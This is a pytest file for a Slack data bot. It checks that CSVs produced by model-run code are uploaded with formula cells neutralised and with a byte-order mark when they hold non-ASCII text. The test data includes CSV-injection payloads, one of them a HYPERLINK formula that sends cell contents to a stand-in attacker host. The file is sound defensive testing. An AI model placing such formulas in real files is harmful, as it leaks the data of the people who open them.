"""A CSV that model code writes itself (`df.to_csv`) and attaches reaches people with its formula
cells neutralised: the bot does it on the way out (`core/thread.py`), whatever the step wrote. End
to end: signed Slack events into `datathread serve`, the scripted model, a real sandbox step, and the
bytes the fake Slack Web API received."""

from __future__ import annotations

import csv
import io

import pytest
import pytest_asyncio

from tests.bot.slack_harness import mention, module_settings, serve
from tests.fakes.anthropic_api import text, tool

pytestmark = pytest.mark.asyncio(loop_scope="module")

# Written by the step's own pandas: the cells a spreadsheet would run, beside numbers that must stay.
WRITE_CSV = """
import pandas as pd
pd.DataFrame({
    'name': ['=HYPERLINK("https://evil.example/?"&A1,"click")', '@SUM(1+1)', '-2+3', '+cmd', 'plain', '\\t=1+1'],
    'value': [-5, 3.25, -0.5, 7, 1e21, 0],
    'signed': ['-12', '+4', '-1.5e3', '.5', '-', 'x'],
}).to_csv('report.csv', index=False)
print('written')
"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def slack(tmp_path_factory, model, slack_api):
    home = tmp_path_factory.mktemp("csv") / "home"
    home.mkdir(parents=True)
    settings = module_settings(home, model.url)
    async with serve(settings, slack_api) as harness:
        harness.home = home
        yield harness


async def test_a_csv_written_by_model_code_is_uploaded_with_formulas_neutralised(slack, model):
    model.enqueue(
        tool("run_python", {"code": WRITE_CSV}),
        tool("attach_file", {"path": "report.csv", "title": "Report"}),
        text("Here is the report."),
    )
    assert (await slack.event(mention("make me a report as CSV", ts="300.1"))).status_code == 200
    await slack.drain()
    uploads = list(slack.api.uploads.values())
    assert len(uploads) == 1, slack.api.calls
    rows = list(csv.reader(io.StringIO(uploads[0].decode())))
    assert rows[0] == ["name", "value", "signed"]
    names = [r[0] for r in rows[1:]]
    assert names == [
        '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
        "'@SUM(1+1)",
        "'-2+3",
        "'+cmd",
        "plain",
        "'\t=1+1",
    ]
    assert [r[1] for r in rows[1:]] == ["-5.0", "3.25", "-0.5", "7.0", "1e+21", "0.0"]  # numbers as written
    assert [r[2] for r in rows[1:]] == ["-12", "+4", "-1.5e3", ".5", "'-", "x"]
    assert not uploads[0].startswith(b"\xef\xbb\xbf")  # all ASCII: no byte-order mark
    # the workspace keeps what the step wrote: only what leaves for people is changed
    (written,) = slack.home.rglob("report.csv")
    assert written.read_bytes().startswith(b'name,value,signed\n"=HYPERLINK(')


async def test_a_csv_with_non_ascii_text_is_uploaded_with_the_mark_excel_needs(slack, model):
    """Uploaded as plain UTF-8, "München" opened in Excel as "MÃ¼nchen": a CSV holding non-ASCII text
    leaves with a UTF-8 byte-order mark; the workspace keeps the step's bytes."""
    code = "open('orte.csv', 'w', encoding='utf-8').write('ort,flüge\\nMünchen,3\\n東京,5\\n')"
    model.enqueue(
        tool("run_python", {"code": code}),
        tool("attach_file", {"path": "orte.csv", "title": "Orte"}),
        text("Hier ist die Tabelle."),
    )
    assert (await slack.event(mention("Flüge nach Ort als CSV", ts="300.2"))).status_code == 200
    await slack.drain()
    (upload,) = [data for data in slack.api.uploads.values() if "München".encode() in data]
    assert upload == "\ufeffort,flüge\nMünchen,3\n東京,5\n".encode()
    (written,) = slack.home.rglob("orte.csv")
    assert written.read_bytes() == "ort,flüge\nMünchen,3\n東京,5\n".encode()
